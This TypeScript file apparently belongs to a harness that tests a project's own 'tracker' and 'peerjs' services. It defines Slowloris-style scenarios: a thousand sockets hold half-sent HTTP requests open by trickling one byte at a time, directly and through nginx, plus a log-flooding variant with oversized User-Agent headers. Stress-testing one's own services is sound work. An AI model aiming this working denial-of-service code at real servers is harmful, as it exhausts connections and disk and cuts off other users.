// Requests that are begun and not finished, a byte now and then: each holds a connection before any limit of WebSockets has seen it.
import type { Attack } from '../attack.ts';
import { crowd, pause, RawSocket } from '../raw-socket.ts';

const attackOn = (id: string, more: Partial<Attack>): Attack => ({
  id,
  title: `half-sent requests${more.isBehindNginx === true ? ', through nginx' : ''}`,
  service: 'tracker',
  ...more,
  run: ({ port }) =>
    crowd(async ({ address }) => {
      const socket = await RawSocket.connect(port, address);
      await socket.send('GET / HTTP/1.1\r\nHost: localhost\r\nX-A: ');
      while (socket.isOpen) {
        await pause(500);
        await socket.send('a');
      }
    }, 1_000),
});

export const onNginx = attackOn('14a', { isBehindNginx: true });
export const onTracker = attackOn('14b', {});
export const onPeerjs: Attack = { ...attackOn('14c', {}), service: 'peerjs' };

const request =
  'GET /nothing-here HTTP/1.1\r\nHost: localhost\r\nUser-Agent: ' + 'a'.repeat(1_000) + '\r\n\r\n';
export const onTheLog: Attack = {
  id: '14d',
  title: 'requests without end, through nginx, each with a long line for the log',
  service: 'tracker',
  isBehindNginx: true,
  run: ({ port }) =>
    crowd(async ({ address }) => {
      const socket = await RawSocket.connect(port, address);
      while (socket.isOpen) await socket.send(request.repeat(20));
    }),
};
